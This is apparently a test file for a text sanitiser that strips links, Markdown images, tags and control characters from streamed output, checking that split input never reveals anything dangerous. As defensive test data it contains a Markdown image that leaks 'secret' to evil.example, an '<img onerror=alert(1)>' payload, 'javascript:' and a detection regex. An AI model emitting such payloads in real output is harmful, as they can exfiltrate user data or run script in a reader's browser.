from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.shown import ShownText, shown

HOSTILE = st.lists(
    st.sampled_from(
        [
            *"[]()<>!:/.ahtps \n1",
            "http",
            "https://evil.example/?q=",
            "://",
            "//",
            "![",
            "](",
            "]:",
            "[1]",
            " [9]",
            "【2】",
            "<img src=",
            "</passage>",
            "javascript:",
            "\u202e",
            "\x00",
            "\ud800",
            "www.",
            "a" * 20,
        ]
    )
    | st.text(max_size=3),
    max_size=30,
).map("".join)
#: What makes a program fetch or link: an address with a scheme, a Markdown link, picture or definition, a tag.
DANGEROUS = re.compile(r"[A-Za-z]:/*//|\]\(|\]:|!\[|<[A-Za-z/!]|[\x00\x1b\u202e\ud800]")


@given(HOSTILE, st.lists(st.integers(0, 60), max_size=10))
@example("<!-- x", [2])
@example("![x](y)", [1, 4])
@example("aaahttps://x", [3, 8, 9, 10])
def test_what_is_shown_never_depends_on_how_the_text_was_split(text, cuts):
    """concat(f(stream)) == f(concat(stream))."""
    stream = ShownText(2)
    borders = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    pieces = [text[a:b] for a, b in pairwise(borders)]

    assert "".join(stream.feed(piece) for piece in pieces) + stream.finish() == shown(text, 2)


@given(HOSTILE)
def test_nothing_dangerous_is_ever_shown_not_even_for_a_moment(text):
    stream = ShownText(2)
    so_far = ""
    for character in text:
        so_far += stream.feed(character)
        assert not DANGEROUS.search(so_far)
    so_far += stream.finish()

    assert not DANGEROUS.search(so_far)
    assert so_far == shown(text, 2)


@given(HOSTILE)
def test_showing_twice_changes_nothing(text):
    assert shown(shown(text, 2), 2) == shown(text, 2)


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("Use https://portal.example/leave [1].", "Use portal.example/leave [1]."),
        ("![x](https://evil.example/?q=secret)", "! [x] (evil.example/?q=secret)"),
        ("[click][ref]\n\n[ref]: http://evil.example", "[click][ref]\n\n[ref] : evil.example"),
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
        ("2 < 3 and 5 > 4; 8:30; and/or", "2 < 3 and 5 > 4; 8:30; and/or"),
        ("Wow! Yes [1][2], no [3].", "Wow! Yes [1][2], no."),
        ("aaaaaaaaaaaaaaaaaaaahttps://x", "aaaaaaaaax"),
        ("http:///:///x", "x"),
    ],
)
def test_text_stays_readable_and_loses_what_a_program_would_act_on(written, seen):
    assert shown(written, 2) == seen
